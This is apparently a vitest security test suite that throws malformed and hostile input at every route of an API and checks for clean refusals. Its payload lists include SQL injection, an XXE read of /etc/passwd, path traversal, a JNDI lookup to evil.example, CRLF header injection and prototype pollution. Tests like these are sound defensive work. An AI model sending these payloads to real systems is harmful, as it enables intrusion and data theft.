import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { routeNames } from '#contract/routes/index.ts';
import type { RouteName } from '#contract/routes/route.ts';
import { type Answer, type Api, openApiFixture } from '../../support/api-fixture.ts';
import {
  countRows,
  openTarget,
  sampleOf,
  schemaOf,
  specs,
  type Target,
  takesJson,
  wrongFor,
} from '../../support/attack.ts';

/** OWASP API Top 10 (2023), cases 3, 4, 8 and 10, and bad input of every kind, against every route of the contract. */
let api: Api;
let target: Target;
beforeAll(async () => {
  api = await openApiFixture({ LOG_LEVEL: 'silent' });
  target = await openTarget(api);
});
afterAll(() => api.close());
afterEach(async () => expect(await api.ask('GET //health/live')).toMatchObject({ status: 200 }));

const json = { 'content-type': 'application/json' };
const nest = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
const statusOf = { bad_request: 400, too_large: 413, unsupported_type: 415 };
type Body = [string, keyof typeof statusOf, string | Uint8Array<ArrayBuffer>, Record<string, string>];
const bodies: Body[] = [
  ['half an object', 'bad_request', '{"text":', json],
  ['a word', 'bad_request', 'null', json],
  ['bytes that are no text', 'bad_request', '\u0000\ufffd', json],
  ['a list', 'bad_request', '[1]', json],
  ['33 levels', 'bad_request', nest(33), json],
  ['10,000 levels', 'bad_request', nest(10_000), json],
  ['a list of 30,000 levels', 'bad_request', `{"a":${'['.repeat(30_000)}${']'.repeat(30_000)}}`, json],
  ['a prototype', 'bad_request', '{"__proto__":{"role":"admin"}}', json],
  ['a prototype further in', 'bad_request', '{"value":{"__proto__":{"role":"admin"}}}', json],
  ['65 KB', 'too_large', JSON.stringify({ text: 'x'.repeat(65 * 1024) }), json],
  ['2 MB', 'too_large', JSON.stringify({ text: 'x'.repeat(2 * 1024 ** 2) }), json],
  ['what is packed', 'unsupported_type', new Uint8Array(gzipSync('{}')), { ...json, 'content-encoding': 'gzip' }],
  ['plain text', 'unsupported_type', '{}', { 'content-type': 'text/plain' }],
  [
    'XML',
    'unsupported_type',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    { 'content-type': 'application/xml' },
  ],
  ['a form', 'unsupported_type', 'a=b', { 'content-type': 'application/x-www-form-urlencoded' }],
  ['no type', 'unsupported_type', '{}', { 'content-type': '' }],
];

// First of all: what the others ask is applied later, and would be counted here.
it.each(takesJson)('%s refuses bodies that are none', async (name) => {
  const before = await countRows(api);
  for (const [fault, code, body, headers] of bodies) {
    const answer = await api.ask(target.at(name), { token: target.tokenFor(name), body, headers });
    expect(answer, fault).toMatchObject({ status: statusOf[code], body: { code, detail: expect.any(String) } });
  }
  expect(await countRows(api)).toEqual(before);
});

describe.each(takesJson.filter((name) => specs[name]?.body))('%s', (name) => {
  const spec = specs[name];
  const schema = spec?.body ? schemaOf(spec.body) : undefined;
  const fields = Object.entries(schema?.properties ?? {});

  it('names each field of a wrong type', async () => {
    const sample = sampleOf(schema ?? {}) as object;
    for (const [field, inner] of fields) {
      const wrong = wrongFor(inner);
      if (wrong === undefined) continue;
      const answer = await api.ask(target.at(name), {
        token: target.tokenFor(name),
        json: { ...sample, [field]: wrong },
      });
      expect(answer, field).toMatchObject({ status: 400, body: { code: 'bad_request' } });
      const { details } = answer.body as { details: { path: string }[] };
      expect(details.map(({ path }) => path.split('.')[0])).toContain(field);
    }
  });

  it('sets nothing that is not in the contract', async () => {
    const id = '00000000-0000-7000-8000-000000000666';
    const more = {
      id,
      isAdmin: true,
      permissions: ['users.write'],
      customerId: id,
      siteId: id,
      agentId: id,
      passwordHash: 'x',
    };
    const unknown = Object.fromEntries(
      Object.entries({ ...more, role: 'admin', state: 'closed', version: 99 }).filter(
        ([key]) => !schema?.properties?.[key],
      ),
    );
    const jsonBody = { ...(sampleOf(schema ?? {}) as object), ...unknown };
    const parsed = spec?.body?.safeParse(jsonBody);
    for (const key of parsed?.success ? Object.keys(unknown) : []) expect(parsed?.data).not.toHaveProperty(key);
    const answer = await api.ask(target.at(name), { token: target.tokenFor(name), json: jsonBody });
    expect(answer.status).toBeLessThan(500);
    if (answer.status < 300) expect(answer.text).not.toContain(id);
  });
});

const hostile = [
  "' OR '1'='1' -- ",
  '"; DROP TABLE users; -- ',
  '1; SELECT SLEEP(5)#',
  'x\r\nSet-Cookie: stolen=1\r\n\r\n<script>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '$' + '{jndi:ldap://evil.example/a}{{7*7}}<%= 7*7 %>',
  '\u0000\u202e\ufeff💥',
  '%_%\\',
];

/** Whatever it says, it says it in order and gives nothing away. */
function sane(answer: Answer, what: string): void {
  expect(answer.status, `${what}: ${answer.text}`).toBeLessThan(500);
  expect(answer.headers.get('set-cookie')).toBeNull();
  if (answer.status >= 400) expect(answer.text).not.toMatch(/\bsql\b|ER_|at \/|node_modules|root:x:/i);
}

/** A body that fits, for routes that take one. */
function bodyFor(name: RouteName, text = 'x'): { json?: unknown } {
  const schema = specs[name]?.body;
  if (!takesJson.includes(name)) return {};
  return { json: schema ? sampleOf(schemaOf(schema), text) : {} };
}

describe.each(routeNames)('%s', (name) => {
  const spec = specs[name];
  const asked = (path: string, more = {}) => api.ask(path, { token: target.tokenFor(name), ...more });

  it('takes hostile text for text', async () => {
    for (const text of hostile) {
      const body = bodyFor(name, text);
      const properties = Object.keys((spec?.query ? schemaOf(spec.query).properties : undefined) ?? {});
      const query = new URLSearchParams([...properties, 'unknown'].map((key) => [key, text]));
      sane(await asked(`${target.at(name)}?${query}`, body), text);
      for (const key of properties) {
        sane(await asked(`${target.at(name)}?${new URLSearchParams({ [key]: text })}`, body), `${key}=${text}`);
      }
    }
  });

  it('takes a query that is said twice, or as an object, for wrong', async () => {
    for (const key of Object.keys((spec?.query ? schemaOf(spec.query).properties : undefined) ?? {})) {
      sane(await asked(`${target.at(name)}?${key}=1&${key}=2`), key);
      sane(await asked(`${target.at(name)}?${key}[$ne]=1&${key}[__proto__]=1`), key);
    }
    sane(await asked(`${target.at(name)}?__proto__=1&constructor=2&limit=1e999&cursor=${'A'.repeat(300)}`), 'names');
  });
});

const hostileNames = [
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '%27%20OR%201=1',
  'null',
  '-1',
  '0',
  '__proto__',
  '[object%20Object]',
  'x'.repeat(2000),
  '%f0%9f%92%a5',
];

it.each(routeNames.filter((name) => name.includes(':')))('%s finds nothing under a hostile name', async (name) => {
  for (const text of hostileNames) {
    const over = Object.fromEntries([...name.matchAll(/:(\w+)/g)].map(([, key = '']) => [key, text]));
    const answer = await api.ask(target.at(name, over), { token: target.tokenFor(name), ...bodyFor(name) });
    sane(answer, text);
    expect(answer.status, text).toBeGreaterThanOrEqual(400);
  }
});

const keyed = takesJson.filter((name) => name.startsWith('POST') && specs[name]?.access !== 'public');
it.each(keyed)('%s takes no key that is none', async (name) => {
  for (const key of ['with space', 'x'.repeat(65)]) {
    const headers = { 'idempotency-key': key };
    const answer = await api.ask(target.at(name), { token: target.tokenFor(name), ...bodyFor(name), headers });
    expect([400, 404, 409]).toContain(answer.status);
  }
});

it('has still the same people in it', async () => {
  expect(await api.ask('GET /me', { token: target.owner })).toMatchObject({ status: 200, body: { type: 'customer' } });
  expect(await api.ask('GET /admin/users', { token: target.admin.token })).toMatchObject({ status: 200 });
  expect(Object.prototype).not.toHaveProperty('role');
  expect(Object.prototype).not.toHaveProperty('a');
});
